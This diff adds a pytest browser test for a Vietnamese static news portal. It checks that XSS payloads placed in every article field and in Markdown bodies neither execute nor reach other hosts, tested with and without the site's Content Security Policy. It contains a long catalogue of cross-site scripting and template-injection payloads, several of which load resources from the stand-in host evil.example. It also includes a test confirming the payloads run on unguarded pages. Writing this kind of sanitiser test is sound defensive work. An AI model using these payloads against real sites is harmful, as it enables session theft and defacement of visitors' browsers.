@@ -1,0 +1,386 @@
+"""Hostile text in every field of articles does nothing in a reader's browser.
+
+Two layers, each alone: first the pages as they are built, with the policy switched off; then
+the same payloads put into a page raw, as if there were no sanitiser, with the policy on.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote, urlsplit
+
+import pytest
+from builders import BODY, Portal, add_articles, article_text, draw_picture, make_portal
+from lxml import etree, html
+from portal_server import serving
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+EVIL = "https://evil.example"
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    f"<script src={EVIL}/x.js></script>",
+    "<ScRiPt/x>alert(1)</sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '"><script>alert(1)</script>',
+    "'\"><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    f'<img src="{EVIL}/p.png">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    f'<iframe src="{EVIL}/"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    f'<embed src="{EVIL}/x.swf">',
+    '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
+    f'<base href="{EVIL}/">',
+    f'<link rel="stylesheet" href="{EVIL}/x.css">',
+    f"<style>@import '{EVIL}/x.css';</style>",
+    f'<p style="background:url({EVIL}/a)">Đoạn</p>',
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>Mở</summary>Chữ</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<marquee onstart=alert(1)>Chữ</marquee>",
+    "<x contenteditable onfocus=alert(1) autofocus tabindex=1>Chữ</x>",
+    '<abbr title="a" onmouseover=alert(1)>GV</abbr>',
+    '<abbr title="&quot;><img src=x onerror=alert(1)>">GV</abbr>',
+    '<mark onpointerenter="alert(1)">Chữ</mark>',
+    "<br/onload=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<template><script>alert(1)</script></template>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<a href='javascript:alert(1)'>Chữ</a>",
+    f'<a href="/" ping="{EVIL}/">Chữ</a>',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+    "`<script>alert(1)</script>`",
+    "**<script>alert(1)</script>**",
+    '"onfocus="alert(1)" autofocus="',
+    "' onmouseover='alert(1)' x='",
+    "javascript:alert(1)",
+    "{{ SITENAME }} {% raw %}{# ghi chú #}",
+    "{{ config.items() }} {{ 7*7 }}",
+    "${alert(1)} #{alert(1)} <%= alert(1) %>",
+    "{: onclick=alert(1) style=color:red }",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<script>/*\u00a0*/alert(1)//</script>",
+)
+# Forms of Markdown rather than of HTML, for the body alone.
+BODIES = (
+    "```html\n<script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "## Mục <img src=x onerror=alert(1)> {: onclick=alert(1) }",
+    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
+    'Chữ[^1]\n\n[^1]: <img src=x onerror=alert(1)> "x',
+    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
+    "> <svg onload=alert(1)>\n>\n> — <img src=x onerror=alert(1)>",
+    '[chữ](https://example.vn/ "\\"onmouseover=alert(1) x=\\"")',
+    "<javascript:alert(1)> [chữ] (javascript:alert(1)) [javascript:alert(1)]",
+    "Đoạn\n{: onclick=alert(1) id=location style=color:red }",
+)
+REFUSED = (
+    "[chữ](javascript:alert(1))",
+    "[chữ](&#106;avascript:alert(1))",
+    "[chữ](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[chữ][1]\n\n[1]: vbscript:msgbox(1)",
+    "![Tủ sách bên cửa sổ](https://evil.example/p.png)",
+    "![Tủ sách bên cửa sổ](javascript:alert(1))",
+)
+MOST_TAG, MOST_TITLE = 50, 180
+
+
+@dataclass(slots=True)
+class Watch:
+    """What happened in a browser: alerts that ran, requests to other hosts."""
+
+    here: str
+    executed: list[str] = field(default_factory=list)
+    left: list[str] = field(default_factory=list)
+
+
+@contextmanager
+def watching(browser: Browser, address: str, *, policy: bool) -> Iterator[tuple[Page, Watch]]:
+    """A page whose alerts and requests are noted; `policy` says whether the server's CSP holds."""
+    watch = Watch(urlsplit(address).netloc)
+
+    def note(request: Any) -> None:
+        parts = urlsplit(request.url)
+        if parts.scheme in {"http", "https", "ws", "wss"} and parts.netloc != watch.here:
+            watch.left.append(f"{view.url} → {request.url}")
+
+    with browser.new_context(bypass_csp=not policy) as context:
+        context.expose_binding("noted", lambda source, *_: watch.executed.append(source["frame"].url))
+        context.add_init_script("window.alert = () => { window.noted() }")
+        context.route(f"{EVIL}/**", lambda route: route.abort())
+        context.on("request", note)
+        view = context.new_page()
+        yield view, watch
+
+
+def visit(view: Page, address: str) -> None:
+    """Open a page and give what it may start time to run; one that leads away is no failure."""
+    from playwright.sync_api import Error
+
+    try:
+        view.goto(address, wait_until="load")
+        view.wait_for_timeout(20)
+    except Error as error:
+        if "interrupted" not in str(error) and "ERR_" not in str(error):
+            raise
+
+
+def hostile_header(number: int, payload: str) -> dict[str, object]:
+    """Every key that takes text of an editor's own, with the payload in it."""
+    return {
+        "title": f"Bài {number} {payload}"[:MOST_TITLE],
+        "date": f"2026-04-{1 + number % 28:02} 08:{number % 60:02}",
+        "author": [f"Người {number} {payload}"],
+        "organisation": f"Đơn vị {number} {payload}",
+        "tags": [f"thẻ {number} {payload}"[:MOST_TAG]],
+        "summary": f"Tóm tắt {payload}",
+        "correction": f"Sửa {payload}",
+        "modified": "2026-05-01",
+        "dateline": payload[:20],
+        "image": "media/tu-sach.jpg",
+        "image_alt": f"Tủ sách bên cửa sổ {payload}",
+        "image_caption": f"Tủ sách {payload}",
+        "image_credit": f"Ảnh của {payload}",
+        "source": {"name": f"Báo {payload}", "url": "https://example.vn/?a=%22%3E"},
+        "event": {"start": "2026-12-01 08:00", "place": f"Nhà văn hóa {payload}"},
+        "attachments": [{"file": "media/tu-sach.jpg", "title": f"Tệp {payload}"}],
+    }
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Portal:
+    """A portal whose articles are made of payloads, built."""
+    portal = make_portal(tmp_path_factory.mktemp("hostile") / "portal")
+    draw_picture(portal.content / "media/tu-sach.jpg")
+    for number, payload in enumerate(PAYLOADS):
+        header = hostile_header(number, payload)
+        portal.article(f"2026-04-01-bai-{number}", f"{BODY}\n{payload}\n\nChữ {payload} chữ.\n", **header)
+    for number, body in enumerate(BODIES):
+        portal.article(f"2026-03-01-than-{number}", f"{BODY}\n{body}\n", title=f"Thân {number}")
+    portal.build()
+    return portal
+
+
+@pytest.fixture(scope="module")
+def site(hostile: Portal) -> Path:
+    return hostile.root / "site"
+
+
+def pages(site: Path) -> list[str]:
+    """Addresses to open: every article, and lists, indexes and tools that print its fields."""
+    articles = [f"/{page.parent.relative_to(site)}/" for page in site.glob("2026/*/*/*/index.html")]
+    lists = ["/", "/trang/1/", "/trang/2/", "/chuyen-muc/tin-tuc/", "/khu-vuc/dong-thap/", "/chu-de/",
+             "/tac-gia/", "/don-vi/", "/luu-tru/2026/04/", "/lich/", "/rss/", "/so-do/", "/thong-ke/",
+             "/doc-nhieu/", "/404.html"]  # fmt: skip
+    terms = [f"/{page.parent.relative_to(site)}/" for kind in ("chu-de", "tac-gia", "don-vi")
+             for page in sorted((site / kind).glob("*/index.html"))[:4]]  # fmt: skip
+    return [*sorted(articles), *lists, *terms]
+
+
+def test_there_are_enough_payloads(site: Path) -> None:
+    assert len(PAYLOADS) + len(BODIES) + len(REFUSED) >= 60
+    assert len(list(site.glob("2026/*/*/*/index.html"))) == len(PAYLOADS) + len(BODIES)
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("policy", [False, True], ids=["without policy", "with policy"])
+def test_no_built_page_runs_a_payload_or_calls_another_host(
+    site: Path, browser: Browser, *, policy: bool
+) -> None:
+    """With the policy, which only takes away, every fifth page is enough."""
+    with serving(site) as address, watching(browser, address, policy=policy) as (view, watch):
+        for path in pages(site)[:: 5 if policy else 1]:
+            visit(view, f"{address}{path}")
+    assert watch.executed == []
+    assert watch.left == []
+
+
+@pytest.mark.browser
+def test_search_shows_hostile_titles_and_queries_as_text(site: Path, browser: Browser) -> None:
+    with serving(site) as address, watching(browser, address, policy=False) as (view, watch):
+        for query in ("bai", "script", PAYLOADS[0], PAYLOADS[5], PAYLOADS[11]):
+            visit(view, f"{address}/tim-kiem/?q={quote(query)}")
+            view.wait_for_function("document.querySelector('main').innerText.length > 200")
+        view.goto(f"{address}/tim-kiem/?q=tu+sach")
+        view.wait_for_timeout(500)
+    assert watch.executed == []
+    assert watch.left == []
+
+
+@pytest.fixture(scope="module")
+def raw_site(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Pages with the payloads as they are, as if nothing had been escaped."""
+    made = tmp_path_factory.mktemp("raw")
+    (made / "theme").symlink_to(site / "theme")
+    (made / "media").symlink_to(site / "media")
+    (made / "404.html").write_bytes((site / "404.html").read_bytes())
+    page = (site / "2026/05/20/than-0/index.html").read_text(encoding="utf-8")
+    assert '<div class="prose">' in page
+    for number, payload in enumerate(PAYLOADS):
+        text = page.replace("<title>", f"<title>{payload}").replace(
+            '<div class="prose">', f'<div class="prose">{payload}<p title="{payload}">{payload}</p>'
+        )
+        (made / f"{number}.html").write_text(text, encoding="utf-8")
+    return made
+
+
+@pytest.mark.browser
+def test_the_payloads_are_live_where_nothing_guards(raw_site: Path, browser: Browser) -> None:
+    """Without sanitiser and policy they do run; else the tests above would prove nothing."""
+    with serving(raw_site) as address, watching(browser, address, policy=False) as (view, watch):
+        for number in range(len(PAYLOADS)):
+            visit(view, f"{address}/{number}.html")
+    assert len(set(watch.executed)) >= 25
+    assert len(watch.left) >= 5
+
+
+@pytest.mark.browser
+def test_the_policy_alone_stops_every_payload(raw_site: Path, browser: Browser) -> None:
+    with serving(raw_site) as address, watching(browser, address, policy=True) as (view, watch):
+        for number in range(len(PAYLOADS)):
+            visit(view, f"{address}/{number}.html")
+    away = [line for line in watch.left if not line.endswith(f"→ {EVIL}/")]  # meta refresh: below
+    assert watch.executed == []
+    assert away == []
+
+
+def trees(site: Path) -> Iterator[tuple[str, html.HtmlElement]]:
+    for page in sorted(site.rglob("*.html")):
+        text = page.read_bytes()
+        yield page.relative_to(site).as_posix(), html.document_fromstring(
+            text, parser=html.HTMLParser(encoding="utf-8")
+        )
+
+
+def test_no_element_of_any_page_is_active(site: Path) -> None:
+    """No handler, no inline script or style, no frame, no address but http, mailto, tel, own."""
+    scheme = re.compile(r"^\s*(?!(https?|mailto|tel):)[a-z][a-z0-9+.-]*:", re.IGNORECASE)
+    faults = []
+    for name, tree in trees(site):
+        for node in tree.iter(etree.Element):
+            addresses = [str(node.get(key, "")) for key in ("href", "src", "action", "data", "ping")]
+            active = (
+                any(key.startswith("on") for key in node.attrib)
+                or node.tag in {"iframe", "object", "embed", "base", "style"}
+                or (node.tag == "script" and "src" not in node.attrib
+                    and node.get("type") != "application/ld+json")
+                or "style" in node.attrib
+                or any(map(scheme.match, addresses))
+                or (node.tag in {"img", "script", "source"} and EVIL in "".join(addresses))
+            )  # fmt: skip
+            if active:
+                faults.append(f"{name}: {etree.tostring(node)[:200]!r}")
+    assert faults == []
+
+
+def article(site: Path, number: int) -> html.HtmlElement:
+    path = next(site.glob(f"2026/04/*/bai-{number}/index.html"))
+    return html.document_fromstring(
+        path.read_bytes(), parser=html.HTMLParser(encoding="utf-8")
+    )
+
+
+def test_readers_see_every_title_letter_by_letter(site: Path) -> None:
+    """In the heading, in the data for search engines and on the card that networks show."""
+    for number, payload in enumerate(PAYLOADS):
+        title = plain(str(hostile_header(number, payload)["title"]))
+        tree = article(site, number)
+        scripts = tree.xpath("//script[@type='application/ld+json']")
+        headlines = [plain(str(json.loads(node.text).get("headline"))) for node in scripts]
+        assert plain(tree.find(".//h1").text_content()) == title
+        assert title in headlines
+        assert plain(tree.xpath("//meta[@property='og:title']/@content")[0]) == title
+
+
+def plain(text: str) -> str:
+    return " ".join(text.split())
+
+
+@pytest.mark.parametrize(
+    "text", ["{{ SITENAME }} {% raw %}{# ghi chú #}", "{{ config.items() }} {{ 7*7 }}"]
+)
+def test_template_syntax_stays_text(site: Path, text: str) -> None:
+    tree = article(site, PAYLOADS.index(text))
+    assert text in tree.find(".//h1").text_content()
+    assert text in tree.xpath("//div[@class='prose']")[0].text_content()
+
+
+def test_every_feed_sitemap_and_data_file_is_well_formed(site: Path) -> None:
+    for path in site.rglob("*.xml"):
+        etree.parse(path)
+    for path in [*site.rglob("*.json")]:
+        json.loads(path.read_text(encoding="utf-8"))
+    calendar = (site / "lich.ics").read_bytes()
+    lines = calendar.decode().replace("\r\n ", "").split("\r\n")
+    assert lines[0] == "BEGIN:VCALENDAR"
+    assert all(re.match(r"[A-Z][A-Z0-9-]*[;:]", line) for line in lines if line)
+
+
+def test_feeds_carry_no_active_markup(site: Path) -> None:
+    bodies: list[str] = [
+        item["content_html"]
+        for item in json.loads((site / "feed.json").read_text(encoding="utf-8"))["items"]
+    ]
+    assert bodies
+    for body in bodies:
+        tree = html.fromstring(f"<div>{body}</div>")
+        assert not tree.xpath("//script|//style|//iframe|//@*[starts-with(name(),'on')]|//@style")
+
+
+@pytest.fixture(scope="module")
+def quiet(tmp_path_factory: pytest.TempPathFactory) -> Portal:
+    portal = make_portal(tmp_path_factory.mktemp("refused") / "portal")
+    add_articles(portal.content, 1)
+    return portal
+
+
+def test_hostile_links_are_refused_at_their_line(quiet: Portal) -> None:
+    for number, body in enumerate(REFUSED):
+        quiet.article(f"bai-{number}", f"Đoạn.\n\n{body}\n")
+    done = quiet.bantin("build", "--output", "site")
+    assert done.returncode == 1
+    found = re.findall(r"^content/articles/(bai-\d\.md):(\d+): ", done.stderr, re.MULTILINE)
+    places = {(name, int(line)) for name, line in found}
+    first = len(article_text("").splitlines()) + 1
+    assert places == {
+        (f"bai-{number}.md", first + (4 if "[1]" in body else 2))
+        for number, body in enumerate(REFUSED)
+    }
+
+
+@pytest.mark.parametrize("key", ["region", "category", "level", "slug", "id", "status", "date"])
+def test_hostile_text_is_refused_where_a_choice_is_due(tmp_path: Path, key: str) -> None:
+    portal = make_portal(tmp_path / "portal")
+    path = portal.article("2026-05-20-bai", **{key: PAYLOADS[0]})
+    line = path.read_text(encoding="utf-8").splitlines()
+    place = next(number for number, text in enumerate(line, 1) if text.startswith(f"{key}:"))
+    done = portal.bantin("check")
+    assert done.returncode == 1
+    assert f"content/articles/2026-05-20-bai.md:{place}: " in done.stderr
